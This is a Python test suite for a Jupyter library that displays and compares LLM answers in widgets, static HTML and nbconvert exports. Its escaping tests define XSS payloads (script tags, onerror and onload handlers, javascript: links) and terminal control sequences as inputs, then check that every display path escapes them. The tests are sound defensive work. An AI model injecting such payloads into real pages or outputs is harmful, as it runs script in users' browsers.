infos = [CallInfo(call_id=str(i), model=m, model_id=m, provider=m.split(":")[0])
         for i, m in enumerate(["openai:gpt-6-luna", "anthropic:claude-haiku-5-5"])]
h = open_display("compare", infos, mode, prompt="hello")
loop = asyncio.new_event_loop()
threading.Thread(target=loop.run_forever, daemon=True).start()
async def one(o, m):
    o.on_start(o.info); o.on_status("waiting"); await asyncio.sleep(0.05)
    text = ""
    for i in range(300):
        text += f"w{i} "; o.on_text(f"w{i} "); await asyncio.sleep(0.001)
    r = Result(text=text, model=m, status="ok", latency_s=0.5, ttft_s=0.05, cost_usd=0.0001,
               usage=Usage(5, output_tokens=300))
    o.on_finish(r); return r
async def main():
    h.close(await asyncio.gather(*(one(o, i.model_id) for o, i in zip(h.observers, infos))))
asyncio.run_coroutine_threadsafe(main(), loop).result()
print("MODE", mode, type(h).__name__)
'''
    with Kernel(tmp_path) as k:
        start = len(k.iopub)  # the kernel's start-up messages
        msg_id = k.send(code)
        k.reply(msg_id, timeout=60)
        k.messages(msg_id)
        msgs = [m for _, m in k.iopub[start:]]
    seen: dict[str, int] = {}
    stray, out = 0, ""
    for m in msgs:
        t, parent = m["msg_type"], m["parent_header"].get("msg_id")
        if t == "error":
            pytest.fail(str(m["content"]))
        if parent != msg_id:
            stray += 1
            continue
        seen[t] = seen.get(t, 0) + 1
        if t == "stream":
            out += m["content"]["text"]
        if t == "status" and m["content"]["execution_state"] == "idle":
            break
    assert "MODE notebook NotebookDisplay" in out
    # the widget view and its static copy; close() fills both in from the loop thread
    assert seen.get("display_data") == 2 and seen.get("comm_msg", 0) >= 6
    assert seen.get("update_display_data") == 2, seen
    assert stray == 0


def test_close_matches_results_by_call_id(comms):
    infos = [info("openai:gpt-6-luna"), info("google:gemini-3.5-flash-lite")]
    h = open_display("compare", infos, "notebook")
    only = Result(text="hi", model="google:gemini-3.5-flash-lite", status="ok", call_id=infos[1].call_id,
                  latency_s=0.3, cost_usd=0.0001)
    h.close([only])  # the runner passes the results it has; the first call never finished
    assert "✓ done" in h.observers[1].header.value and "hi" in h.observers[1].body.value
    assert "cancelled" in h.observers[0].header.value


def test_close_refreshes_the_plain_text_form_of_the_output(comms, monkeypatch):
    """A notebook viewed without widgets keeps the text/plain of the output: after close() it
    must hold the answers and the table, not the empty cards it was displayed with."""
    import llmcells.display.notebook as nb

    class Handle:
        def __init__(self, obj):
            self.plain = [obj._repr_mimebundle_()["text/plain"]]

        def update(self, obj):
            self.plain.append(obj._repr_mimebundle_()["text/plain"])

    class StaticHandle:
        def __init__(self, bundle):
            self.bundles = [bundle]

        def update(self, bundle, raw=False):
            assert raw
            self.bundles.append(bundle)

    handles, statics = [], []
    monkeypatch.setattr(nb, "show", lambda obj: handles.append(Handle(obj)) or handles[-1])
    monkeypatch.setattr(nb, "show_static",
                        lambda bundle: statics.append(StaticHandle(bundle)) or statics[-1])
    infos = [info("openai:gpt-6-luna"), info()]
    h = open_display("compare", infos, "notebook", prompt="p")
    for obs, text in zip(h.observers, ["first answer", "second **answer**"]):
        obs.on_start(obs.info)
        obs.on_finish(Result(text=text, model=obs.info.model_id, status="ok", latency_s=1.0))
    h.close([])
    (handle,), (static,) = handles, statics
    # while the calls run the widget's own text names the models (with "simulated"); once they
    # ended it is empty: the static copy holds the answers, and no stray line shows above it
    assert "(simulated)" in handle.plain[0] and handle.plain[-1] == ""
    assert "first answer" not in static.bundles[0]["text/plain"]
    final = static.bundles[-1]
    assert "first answer" in final["text/plain"] and "second **answer**" in final["text/plain"]
    assert "fastest" in final["text/plain"]
    assert "── openai:gpt-6-luna (simulated) ──" in final["text/plain"]
    assert "<strong>answer</strong>" in final["text/html"] and "first answer" in final["text/html"]
    assert 'class="llmcells-static"' in final["text/html"] and "<style" not in final["text/html"]
    assert "tokens/s" in final["text/html"]  # the metrics table too


def _static_compare(comms, texts, **result_kw):
    infos = [info("openai:gpt-4.1-mini"), info(), info("google:gemini-2.5-flash")][: len(texts)]
    h = open_display("compare", infos, "notebook", prompt="Compare")
    for obs, text in zip(h.observers, texts):
        obs.on_start(obs.info)
        obs.on_finish(Result(text=text, model=obs.info.model_id, status="ok", latency_s=1.0,
                             **result_kw))
    h.close([])
    return h, h.static_bundle()["text/html"]


#: what JupyterLab's sanitizer keeps in a style attribute (@jupyterlab/apputils Sanitizer):
#: these properties, with plain colours (hex, rgb(), names), lengths and keywords
SANITIZER_PROPERTIES = {
    "background-color", "border", "border-bottom", "border-left", "border-top", "border-radius",
    "border-collapse", "border-spacing", "color", "display", "font-family", "font-size",
    "font-style", "font-weight", "line-height", "margin", "margin-top", "max-width", "overflow-x",
    "overflow-wrap", "padding", "padding-left", "text-align", "text-decoration", "vertical-align",
    "white-space", "width", "word-break", "table-layout", "justify-content", "align-items",
    "min-width", "margin-left", "margin-right", "margin-bottom", "padding-right", "padding-top",
    "padding-bottom", "border-right", "overflow", "overflow-y", "text-overflow", "max-height",
    "flex", "flex-wrap", "box-sizing"}
OVERFLOW_WRAP_KEPT = {"normal", "break-word"}


def test_static_copy_needs_no_stylesheet_and_lays_the_answers_side_by_side(comms):
    """A saved compare must read like the live one where no stylesheet reaches it (JupyterLab
    strips <style> from untrusted outputs, GitHub strips all CSS): no <style> block, no CSS
    variables, every inline declaration one the sanitizer keeps, the cards in the cells of one
    table row with borders, code that keeps its lines, tables with rules."""
    code = "```python\nx = compute(a_long_argument_name, another_long_argument_name)\n    y = 2\n```"
    table = "| a | b |\n|---|---|\n| 1 | 2 |"
    h, page = _static_compare(comms, ["first answer\n\n" + code, "second\n\n" + table, "third"])
    assert "<style" not in page and "var(" not in page and "color-mix" not in page
    assert "inherit" not in page  # not a value the sanitizer keeps
    # every declaration of every style attribute is one JupyterLab's sanitizer keeps
    for style in re.findall(r'style="([^"]*)"', page):
        for decl in filter(None, (d.strip() for d in html.unescape(style).split(";"))):
            prop, _, value = decl.partition(":")
            assert prop.strip() in SANITIZER_PROPERTIES, decl
            if prop.strip() == "overflow-wrap":
                assert value.strip() in OVERFLOW_WRAP_KEPT, decl
    # side by side: one table row holding the three cards, each bordered
    from llmcells.display.static import side_by_side

    cells = re.findall(r'<td class="llmcells-card"[^>]*style="([^"]*)"', page)
    assert len(cells) == 3 and all("border:1px solid" in c for c in cells)
    assert side_by_side(["a", "b", "c"]).count("<tr") == 1  # three cards: one row
    assert side_by_side(["a", "b", "c", "d"]).count("<tr") == 2
    assert page.index("first answer") < page.index("second") < page.index("third")
    # code keeps its lines and scrolls; tables have rules; nothing relies on a class
    pre = re.search(r"<pre[^>]*>", page).group(0)
    assert "white-space:pre" in pre and "overflow-x:auto" in pre
    assert "\n    y" in html.unescape(re.sub(r"<[^>]+>", "", page))
    td = re.search(r'<div class="llmcells-md"[^>]*>.*?<td[^>]*style="([^"]*)"', page, re.S).group(1)
    assert "border:1px solid" in td
    # the metrics table is there and scrolls sideways
    assert re.search(r'<div class="llmcells-table" style="[^"]*overflow-x:auto', page)
    assert "tokens/s" in page


def _style_of(tag: str) -> dict[str, str]:
    """A tag's style attribute as {property: value}, the last declaration winning as in CSS."""
    style = html.unescape(re.search(r'style="([^"]*)"', tag).group(1))
    return {p.strip(): v.strip() for p, _, v in (d.partition(":") for d in style.split(";") if d.strip())}


def _static_four(comms) -> str:
    infos = [info("openai:gpt-4.1-mini"), info(), info("google:gemini-2.5-flash"),
             info("openai:gpt-6-luna")]
    h = open_display("compare", infos, "notebook", prompt="Compare")
    for obs in h.observers:
        obs.on_start(obs.info)
        obs.on_finish(Result(text="an answer", model=obs.info.model_id, status="ok", latency_s=1.0))
    h.close([])
    return h.static_bundle()["text/html"]


def test_static_copy_rows_are_laid_out_as_the_live_grid(comms):
    """Four cards, saved: the live grid puts the fourth in the first of three columns, so the
    static copy's last row keeps three columns (the card and two empty cells of the same flex);
    every row paints its own background (JupyterLab and nbconvert stripe every other table row
    and colour the one under the pointer, which would show between the cards) and sets its own
    padding (JupyterLab's would push the full-width row past the output's right edge)."""
    page = _static_four(comms)
    rows = re.findall(r"<tr[^>]*>.*?</tr>", page.split('class="llmcells-metrics"')[0], re.S)
    assert len(rows) == 2
    for row in rows:
        assert _style_of(row).get("background-color") == "#ffffff", row[:120]
        assert _style_of(row).get("padding") == "0", row[:120]
        cells = re.findall(r"<td[^>]*>", row)
        assert len(cells) == 3, row  # three columns, whatever the number of cards in the row
        assert len({_style_of(c)["flex"] for c in cells}) == 1, cells
    assert len(re.findall(r'<td class="llmcells-card"', rows[1])) == 1


def test_static_metrics_table_reads_model_and_status_from_the_left(comms):
    """The live table's stylesheet aligns model and status left, the figures right; the saved
    copy has no stylesheet, so its cells say it themselves."""
    metrics = _static_four(comms).split('class="llmcells-metrics"')[1]
    rows = re.findall(r"<tr[^>]*>.*?</tr>", metrics, re.S)
    assert len(rows) == 5
    for row in rows:
        aligns = [_style_of(c).get("text-align") for c in re.findall(r"<t[hd][^>]*>", row)]
        assert aligns[:2] == ["left", "left"] and set(aligns[2:]) == {"right"}, aligns


def test_static_copy_without_any_styles_still_separates_name_and_status(comms):
    """Where a page drops every style and class (GitHub's sanitizer, a feed reader), the card's
    header is two inline spans: the model's name must not run into its status."""
    page = _static_four(comms)
    bare = html.unescape(re.sub(r"<[^>]+>", "", re.sub(r'\s(class|style)="[^"]*"', "", page)))
    assert re.search(r"openai:gpt-4\.1-mini\s+✓ done", bare), bare[:200]


def test_static_copy_exported_to_markdown_keeps_a_code_block_with_empty_lines(comms):
    """`jupyter nbconvert --to markdown` puts the saved HTML into the .md as it is, and a
    Markdown renderer (GitHub showing the .md) ends an HTML block at its first blank line: the
    static copy must hold no line break, or the rest of a code block with an empty line in it
    is read as Markdown (its indented lines as a code block of raw tags)."""
    nbformat = pytest.importorskip("nbformat")
    nbconvert = pytest.importorskip("nbconvert")
    mistune = pytest.importorskip("mistune")
    code = "class A:\n    x = 1\n\n    def f(self):\r\n\r\n        return 1"
    h = open_display("ask", [info()], "notebook", prompt="x")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_finish(Result(text=f"Here:\n\n```python\n{code}\n```\n\nafter", model=card.info.model_id,
                          status="ok", latency_s=1.0))
    h.close([])
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("%%chatgpt\nx", outputs=[
        nbformat.v4.new_output("display_data", data=h.static_bundle())])])
    md, _ = nbconvert.MarkdownExporter().from_notebook_node(nb)
    page = mistune.create_markdown(escape=False)(md)  # (raw HTML passes, as in an HTML block)
    pres = re.findall(r"<pre[^>]*>(.*?)</pre>", page, re.S)
    assert len(pres) == 2, page  # the cell's source, and the answer's code block whole
    assert html.unescape(re.sub(r"<[^>]+>", "", pres[1])) == code.replace("\r\n", "\n") + "\n"
    assert re.search(r"<p[^>]*>after</p>", page), page


def test_static_copy_single_answer_is_one_bordered_card(comms):
    h = open_display("ask", [info()], "notebook", prompt="x")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_finish(Result(text="just **one**", model=card.info.model_id, status="ok", latency_s=1.0))
    h.close([])
    page = h.static_bundle()["text/html"]
    assert "<style" not in page and "<strong" in page
    assert re.search(r'<div class="llmcells-card" style="[^"]*border:1px solid', page)


def test_static_copy_text_form_has_no_terminal_controls(comms):
    """The saved output's text/plain (what jupyter console prints, and a notebook shows without
    HTML) loses an answer's and an error's control characters, as the terminal display does."""
    h = open_display("compare", [info(), info("openai:gpt-6-luna")], "notebook", prompt="x")
    a, b = h.observers
    ra = Result(text="ok \x1b]0;pwned\x07\x1b[2Jdone", model=a.info.model_id, status="ok")
    rb = Result(model=b.info.model_id, status="error", error="bad \x1b[8mhidden\u202e")
    for o, r in ((a, ra), (b, rb)):
        o.on_start(o.info)
        o.on_finish(r)
    h.close([ra, rb])
    text = h.static_bundle()["text/plain"]
    assert "ok ]0;pwned[2Jdone" in text and "bad [8mhidden" in text
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", text), repr(text)


def test_live_and_final_figures_agree_and_placeholders_are_ignored(comms, loop_thread):
    """Elapsed counts from the engine's t0, TTFT is the engine's; Anthropic's message_start
    output_tokens=1 is not shown as the live count."""
    h = open_display("ask", [info()], "notebook", prompt="Write")
    card = h.observers[0]

    async def go():
        card.on_start(card.info)
        t0 = time.monotonic() - 5.0  # the request was sent 5 s ago (slow SDK set-up before it)
        card.on_sent(t0)
        card.on_status("waiting")
        card.on_usage(Usage(input_tokens=30, output_tokens=1))  # message_start's placeholder
        card.on_first_token(0.41)
        card.on_status("streaming")
        for i in range(100):
            card.on_text("word " * 4)
        await asyncio.sleep(0.6)
        card.on_text("end.")
        live = card.live_figures()
        foot = card.footer.value
        return t0, live, foot

    t0, live, foot = loop_thread.run(go())
    assert live["ttft"] == 0.41 and 5.0 <= live["elapsed"] < 7.0
    assert live["output_tokens"] > 1 and abs(live["output_tokens"] - 401) < 40  # 401 words
    assert "30→~" in foot and "→~1 tokens" not in foot and "~" in foot
    assert "TTFT 0.41 s" in foot
    latency = time.monotonic() - t0
    r = Result(text="x", status="ok", latency_s=latency, ttft_s=0.41, usage=Usage(30, output_tokens=500))
    card.on_finish(r)
    final = card.footer.value
    assert "TTFT 0.41 s" in final and F.fmt_seconds(latency) in final
    assert abs(live["elapsed"] - latency) < 1.0



def _notebook_env(tmp_path, monkeypatch) -> None:
    """What a notebook run here with nbclient gets: this checkout's llmcells, a fresh home and
    no provider keys (its cells switch the simulator on)."""
    src = str(Path(__file__).resolve().parents[1] / "src")
    monkeypatch.setenv("PYTHONPATH", src + os.pathsep + os.environ.get("PYTHONPATH", ""))
    monkeypatch.setenv("LLMCELLS_HOME", str(tmp_path / "home"))
    for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GOOGLE_API_KEY", "GEMINI_API_KEY"):
        monkeypatch.delenv(k, raising=False)


@pytest.mark.kernel
@pytest.mark.timeout(180)
def test_nbconvert_html_of_a_saved_notebook_shows_every_answer(tmp_path, monkeypatch):
    """Run a %%compare and an %%claude in a real kernel with widget state saved (as "Save Widget
    State Automatically" does), save the notebook, convert it with nbconvert to HTML, and look
    at it as an offline browser would (no widget manager from a CDN: scripts don't run): every
    answer's text is there, once, and the simulated cards say so."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    nbconvert = pytest.importorskip("nbconvert")
    _notebook_env(tmp_path, monkeypatch)
    prompt = "Name three uses of a hash map"
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("%load_ext llmcells\n%llmcells simulate on --ttft 0.05 --tps 400"),
        nbformat.v4.new_code_cell(f"%%compare chatgpt claude gemini\n{prompt}"),
        nbformat.v4.new_code_cell("%%claude -m claude-haiku-5-5\nWrite a haiku about tables"),
        # a batch: its summary line (which, inside the widget's own output, nbconvert dropped
        # for the widget whenever the widget state was saved)
        nbformat.v4.new_code_cell("import llmcells\n"
                                  "df = await llmcells.batch(['a', 'b', 'c'], models=['claude', 'chatgpt'])"),
    ]
    client = nbclient.NotebookClient(nb, timeout=120, kernel_name="python3",
                                     store_widget_state=True, resources={"metadata": {"path": str(tmp_path)}})
    client.execute()
    assert "application/vnd.jupyter.widget-state+json" in nb.metadata.get("widgets", {})
    path = tmp_path / "saved.ipynb"
    nbformat.write(nb, str(path))

    page, _ = nbconvert.HTMLExporter().from_filename(str(path))
    offline = re.sub(r"<script\b.*?</script>", "", page, flags=re.S)  # what shows without scripts
    text = " ".join(strip_tags(re.sub(r"<style\b.*?</style>", "", offline, flags=re.S)).split())
    text = html.unescape(text)

    for model in ("gpt-6-luna", "claude-haiku-5-5", "gemini-3.5-flash-lite"):
        assert f"Simulated answer from {model}: You asked: “{prompt}”" in text, model
    haiku = "Simulated answer from claude-haiku-5-5: You asked: “Write a haiku about tables”"
    assert haiku in text
    # each answer once (the static copy; the widget's text form is empty)
    assert text.count("Simulated answer from gpt-6-luna:") == 1
    assert "openai:gpt-6-luna (simulated)" in text or "(simulated)" in text
    assert "tokens/s" in text and "fastest" in text  # the metrics table
    assert text.count("6/6 done · 0 failed") == 1, text[-600:]

    # the same notebook saved without widget state (the default): the answers are there, once
    del nb.metadata["widgets"]
    bare = tmp_path / "bare.ipynb"
    nbformat.write(nb, str(bare))
    page, _ = nbconvert.HTMLExporter().from_filename(str(bare))
    text = html.unescape(" ".join(strip_tags(re.sub(r"<(script|style)\b.*?</\1>", "", page,
                                                       flags=re.S)).split()))
    for model in ("gpt-6-luna", "claude-haiku-5-5", "gemini-3.5-flash-lite"):
        assert text.count(f"Simulated answer from {model}: You asked: “{prompt}”") == 1, model
    assert text.count("6/6 done · 0 failed") == 1
    # the widget's text form is empty once the calls ended: no stray line above the answers
    assert "llmcells compare:" not in text and "next output" not in text


def test_ledger_frames_show_formatted_without_changing_the_numbers():
    import pandas as pd

    from llmcells.display.tables import formatted

    raw = pd.DataFrame({"model": ["a", "b"], "cost_usd": [0.000123456, math.nan],
                        "input_tokens": [12345, 2], "latency_s": [1.234, 2.0]})
    df = formatted(raw)
    assert isinstance(df, pd.DataFrame) and df.equals(raw)
    assert df["cost_usd"].iloc[0] == 0.000123456  # the number, not a string
    assert type(df[["model"]]) is pd.DataFrame and type(df.head()) is pd.DataFrame
    view = df._repr_html_()
    assert "$0.000123" in view and "12,345" in view and "1.23 s" in view and "–" in view
    assert "0.000123456" not in view


# ----- escaping -----------------------------------------------------------------------------------

PAYLOAD = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


def _unescaped(markup: str) -> bool:
    """True when the payload (or any piece of it) made it into the HTML as markup."""
    return bool(re.search(r"<img[^>]*onerror|<script", markup, re.I))


def test_ledger_tables_escape_prompts_errors_and_group_names():
    """`%llmcells usage` and `%llmcells costs` show the ledger as a formatted table; a prompt, an
    error or a group name (index or column) holding markup is shown as text, as a plain
    DataFrame's HTML shows it, never run by a browser (nbconvert's HTML, a trusted notebook)."""
    import pandas as pd

    from llmcells.display.tables import formatted

    usage = pd.DataFrame({"model": ["openai:gpt-6-luna"], "prompt": [PAYLOAD], "error": [PAYLOAD],
                          "cost_usd": [0.5], "input_tokens": [1234]})
    view = formatted(usage)._repr_html_()
    assert not _unescaped(view), view
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in view and "$0.500000" in view and "1,234" in view
    by_project = formatted(pd.DataFrame({"calls": [3]}, index=pd.Index([PAYLOAD], name="project")))
    assert not _unescaped(by_project._repr_html_())
    wide = formatted(pd.DataFrame({PAYLOAD: [1]}))
    assert not _unescaped(wide._repr_html_())


def test_every_display_path_escapes_caller_and_server_strings(comms, monkeypatch):
    """Ids, names, messages, notes and file names from callers or servers are shown as text in
    every HTML display: the cards (live and static), the metrics table, the batch progress and
    the provider job progress."""
    import types

    from llmcells.display import jobs
    from llmcells.display import progress as batch
    from llmcells.types import Attachment

    chip = Attachment(media_type="text/plain", data=b"x", name=PAYLOAD, size=1)
    infos = [CallInfo(call_id="a", model=PAYLOAD, model_id="openai:" + PAYLOAD, provider=PAYLOAD,
                      simulated=True, attachments=(chip,)),
             info()]
    h = open_display("compare", infos, "notebook", prompt=PAYLOAD)
    card, other = h.observers
    card.on_start(card.info)
    card.on_retry(RetryInfo(attempt=2, max_attempts=4, wait_s=3, status_code=429, reason=PAYLOAD,
                            message=PAYLOAD))
    live = [card.header.value, card.body.value]
    card.on_fallback(PAYLOAD, PAYLOAD, PAYLOAD)
    live.append(card.header.value)
    card.on_finish(Result(text=PAYLOAD, model=PAYLOAD, status="error", error=PAYLOAD,
                          scores={PAYLOAD: 1.0}, score_notes={PAYLOAD: PAYLOAD}))
    other.on_start(other.info)
    other.on_finish(Result(text="ok", model=other.info.model_id, status="ok",
                           scores={PAYLOAD: 0.0}, score_notes={PAYLOAD: PAYLOAD}))
    h.close([])
    pieces = live + [card.header.value, card.body.value, card.footer.value, h.table.value,
                     h.static_bundle()["text/html"]]
    for piece in pieces:
        assert not _unescaped(piece), piece
    assert "&lt;script&gt;" in h.static_bundle()["text/html"]

    # the batch progress: the id, and the reason it stopped
    shown = []
    monkeypatch.setattr("IPython.display.display", lambda *a, **k: shown.append(a) or None)
    p = batch.NotebookProgress(3, PAYLOAD)
    tally = types.SimpleNamespace(total=3, done=1, failed=0, inflight=0, cost=0.0,
                                  started=time.monotonic(), stopped=PAYLOAD)
    p.update(tally)
    p.close(tally)
    assert not _unescaped(p.label.value) and "&lt;script&gt;" in p.label.value
    bundle = p.box.static_bundle()
    assert not _unescaped(bundle["text/html"]) and PAYLOAD in bundle["text/plain"]

    # the provider job progress: the id, the model, the error, the "stopped waiting" note
    j = jobs.NotebookJobProgress(PAYLOAD)
    assert not _unescaped(j.html.value)
    part = {"part": 1, "model_id": PAYLOAD, "state": "failed", "error": PAYLOAD,
            "counts": {"total": 2, "done": 1, "failed": 1}}
    j.update([part])
    assert not _unescaped(j.html.value)
    j.close([part], interrupted=True)
    assert not _unescaped(j.html.value) and "&lt;script&gt;" in j.html.value
    assert not _unescaped(j.box.static_bundle()["text/html"])


def test_job_progress_has_a_bar_per_job_and_a_final_state(comms, monkeypatch):
    from llmcells.display import jobs

    monkeypatch.setattr("IPython.display.display", lambda *a, **k: None)
    j = jobs.NotebookJobProgress("job1")
    assert "submitting" in j.html.value
    running = [{"part": 1, "model_id": "openai:gpt-4.1-mini", "state": "in_progress",
                "counts": {"total": 4, "done": 1, "failed": 0}},
               {"part": 2, "model_id": "anthropic:claude-haiku-4-5", "state": "completed",
                "counts": {"total": 4, "done": 4, "failed": 0}}]
    j.update(running)
    assert j.html.value.count("width:25%") == 1 and j.html.value.count("width:100%") == 1
    assert "running (1 of 2 jobs ended)" in j.html.value and "submitting" not in j.html.value
    done = [dict(running[0], state="completed", counts={"total": 4, "done": 4, "failed": 0}),
            running[1]]
    j.close(done)
    assert "<b>completed</b>" in j.html.value and "running" not in j.html.value
    text = j.box.static_bundle()["text/plain"]
    assert text.startswith("job job1: completed") and "HBox" not in text and "VBox" not in text
    assert j.box._repr_mimebundle_()["text/plain"] == ""  # the copy below holds it, once
    assert jobs.job_state([dict(done[0]), dict(done[1], state="failed")]) == \
        "ended: 1 completed, 1 failed"


def test_batch_progress_output_reads_as_text_without_widgets(comms, monkeypatch):
    """A saved notebook shows the batch's final line, not "HBox(children=(IntProgress(...", and
    shows it once: the widget's own text form is empty once final, and the line is a static copy
    below it (as the cards have), which nbconvert's HTML shows with the widget state saved too
    (the widget's output carried the line, and a saved state drew the widget in its place)."""
    import types

    from llmcells.display import progress as batch

    handles = []

    class Handle:
        def __init__(self, obj):
            self.outputs = [self.form(obj)]

        @staticmethod
        def form(obj):
            return obj if isinstance(obj, dict) else obj._repr_mimebundle_()

        def update(self, obj, **kw):
            self.outputs.append(self.form(obj))

    monkeypatch.setattr("IPython.display.display",
                        lambda obj, display_id=None, **k: handles.append(Handle(obj)) or handles[-1])
    p = batch.NotebookProgress(2, "b1")
    tally = types.SimpleNamespace(total=2, done=2, failed=0, inflight=0, cost=0.0,
                                  started=time.monotonic() - 1, stopped=None)
    p.update(tally)
    p.close(tally)
    widget, copy = handles
    assert "starting 2 calls" in widget.outputs[0]["text/plain"]
    assert "application/vnd.jupyter.widget-view+json" in widget.outputs[-1]
    assert widget.outputs[-1]["text/plain"] == "" and "text/html" not in widget.outputs[-1]
    final = copy.outputs[-1]
    assert set(final) == {"text/plain", "text/html"}  # no widget: drawn wherever it is read
    assert final["text/plain"].startswith("batch b1: 2/2 done · 0 failed")
    assert 'class="llmcells-static"' in final["text/html"] and "2/2 done · 0 failed" in final["text/html"]
    assert ".llmcells-static" in p.box.children[0].value  # the live view hides the copy


# ----- marks ----------------------------------------------------------------------------------------


def test_best_is_marked_only_when_scores_differ():
    from llmcells.display.scores import best_rows

    same = [Result(status="ok", scores={"exact": 0.0}), Result(status="ok", scores={"exact": 0.0})]
    assert best_rows(same, "exact") == set()
    html_ = __import__("llmcells.display.notebook", fromlist=["x"]).metrics_table_html(
        [info("openai:gpt-4.1-mini"), info()], same)
    assert "▲" not in html_
    differ = [Result(status="ok", scores={"exact": 1.0}), Result(status="ok", scores={"exact": 0.0})]
    assert best_rows(differ, "exact") == {0}


def test_tokens_per_s_only_when_meaningful():
    """An answer that arrives in one burst (or over less than 0.2 s) has no rate: "—"."""
    from llmcells.display.notebook import metrics_table_html

    burst = Result(status="ok", latency_s=1.0, ttft_s=0.99, usage=Usage(10, output_tokens=64))
    steady = Result(status="ok", latency_s=2.0, ttft_s=0.5, usage=Usage(10, output_tokens=150))
    assert F.result_rate(burst) is None and F.result_rate(steady) == 100
    # the same in the frames and the ledger (they stored 6,400 tok/s for the burst)
    assert burst.tokens_per_s is None and burst.to_row()["tokens_per_s"] is None
    assert steady.tokens_per_s == 100
    assert F.result_rate(steady, chunks=1) is None and F.result_rate(steady, chunks=40) == 100
    assert "— tok/s" in " · ".join(F.metric_parts(burst)) and "6400" not in " ".join(F.metric_parts(burst))
    table = metrics_table_html([info("openai:gpt-4.1-mini"), info()], [burst, steady], [1, 40])
    assert "<td>—</td>" in table and "<td>100</td>" in table


def test_live_token_estimate_is_within_10_percent_on_simulated_answers():
    """The live count (before the provider's usage arrives) against the simulator's own count,
    fed in the simulator's stream pieces, for each provider."""
    from llmcells.sim.text import answer_tokens, seed_for

    worst = 0.0
    for provider in ("openai", "anthropic", "google"):
        for prompt in ("Explain a p-value to a new analyst, with a small example.",
                       "Write a haiku about tables", "Summarise: tokenizers, caches and costs"):
            for length in (None, 60, 420):
                tokens = answer_tokens("m", seed_for("m", prompt), length, prompt)
                counter = F.TokenCounter(provider)
                for t in tokens:
                    counter.feed(t)
                err = abs(counter.tokens - len(tokens)) / len(tokens)
                worst = max(worst, err)
                assert err <= 0.10, (provider, prompt, length, counter.tokens, len(tokens))
                assert F.estimate_tokens("".join(tokens), provider) == counter.tokens
    print(f"\nworst live-estimate error on simulated answers: {worst:.1%}")


def test_a_repaired_answer_replaces_the_failed_one_in_its_card(comms):
    """repair=1: the card showed the first answer (invalid, ✗); close() brings the repaired
    Result (a new call_id): the card shows it, ✓, with a note of the repair."""
    h = open_display("ask", [info()], "notebook", prompt="p")
    card = h.observers[0]
    card.on_start(card.info)
    card.on_finish(Result(text="not json", model=card.info.model_id, status="error",
                          error="invalid output", error_kind="invalid_output", call_id=card.info.call_id))
    assert "✗" in card.header.value
    fixed = Result(text='{"a": 1}', model=card.info.model_id, status="ok", call_id="repaired",
                   latency_s=1.0)
    h.close([fixed])
    assert "✓ done" in card.header.value and "✗" not in card.header.value
    assert "repaired" in card.header.value and "not json" not in card.body.value
    assert "&quot;a&quot;" in card.body.value or '"a"' in card.body.value
    assert "✓ done" in h.static_bundle()["text/html"]


@pytest.mark.kernel
@pytest.mark.timeout(180)
def test_a_chat_turn_as_a_cells_last_line_shows_once(tmp_path, monkeypatch):
    """`await chat.send(...)` as a cell's last line: the card shows the answer and the cell's
    value does not show it again; the Result shown in a later cell is HTML (never raw Markdown)."""
    nbformat = pytest.importorskip("nbformat")
    nbclient = pytest.importorskip("nbclient")
    _notebook_env(tmp_path, monkeypatch)
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("import llmcells\nllmcells.simulate(ttft=0.01, tokens_per_s=2000)\n"
                                  "chat = llmcells.Chat('claude')"),
        nbformat.v4.new_code_cell("await chat.send('Name a prime number')"),
        nbformat.v4.new_code_cell("r = await chat.send('And another one')"),
        nbformat.v4.new_code_cell("r"),
    ]
    nbclient.NotebookClient(nb, timeout=120, kernel_name="python3",
                            resources={"metadata": {"path": str(tmp_path)}}).execute()

    def answers(cell):
        return [o for o in cell.outputs if "Simulated answer" in str(o.get("data", {}))
                and o.output_type in ("execute_result", "display_data")]

    turn = nb.cells[1]
    assert not [o for o in turn.outputs if o.output_type == "error"], turn.outputs
    # one output holds the answer: the card's static copy (the widget holds it too); the
    # cell's value would be a second one, with the answer as Markdown
    assert len(answers(turn)) == 1, turn.outputs
    assert not [o for o in turn.outputs if "text/markdown" in o.get("data", {})]
    later = nb.cells[3]
    assert [o for o in later.outputs if o.output_type in ("execute_result", "display_data")
            and "text/html" in o.data and "Simulated answer" in o.data["text/html"]
            and "text/markdown" not in o.data], later.outputs


#: an answer that would run script wherever it is rendered as HTML or Markdown with its HTML
HOSTILE_HTML = ("<img src=x onerror=alert('XSS1')> <script>alert('XSS2')</script> "
                "[c](javascript:alert('XSS3')) <iframe src=javascript:alert('XSS4')></iframe> "
                "<style>body{display:none}</style> <svg onload=alert('XSS5')>")
_UNSAFE = re.compile(r"<(img|script|iframe|style|svg)\b[^>]*(XSS|display:none)|href=\"?javascript:",
                     re.I)


def test_a_result_and_a_comparison_show_as_safe_html():
    """A Result or a Comparison as a cell's value is HTML made by the cards' renderer (its raw
    HTML escaped, javascript: links neutralised), not raw Markdown: JupyterLab renders a fresh
    output's Markdown with its HTML (scripts run), and nbconvert's export keeps it."""
    from IPython.core.formatters import DisplayFormatter

    from llmcells.comparison import Comparison

    r = Result(text=HOSTILE_HTML + "\n\n**bold** `a<b`", model="anthropic:claude-haiku-5-5",
               status="error", error="<img src=x onerror=alert('XSS6')>")
    c = Comparison([r, Result(text=HOSTILE_HTML, model="openai:<b>gpt</b>", status="ok")])
    shown = []
    import IPython.display

    real = IPython.display.display
    IPython.display.display = lambda obj, raw=False, **k: shown.append(obj)
    try:
        r._ipython_display_()
    finally:
        IPython.display.display = real
    (bundle,) = shown
    data, _ = DisplayFormatter().format(c)
    for out in (bundle, data):
        assert "text/markdown" not in out and "text/html" in out, out.keys()
        assert not _UNSAFE.search(out["text/html"]), out["text/html"]
        assert "&lt;script&gt;alert('XSS2')" in out["text/html"]  # shown, as text
    assert "<strong>bold</strong>" in bundle["text/html"] and "a&lt;b</code>" in bundle["text/html"]
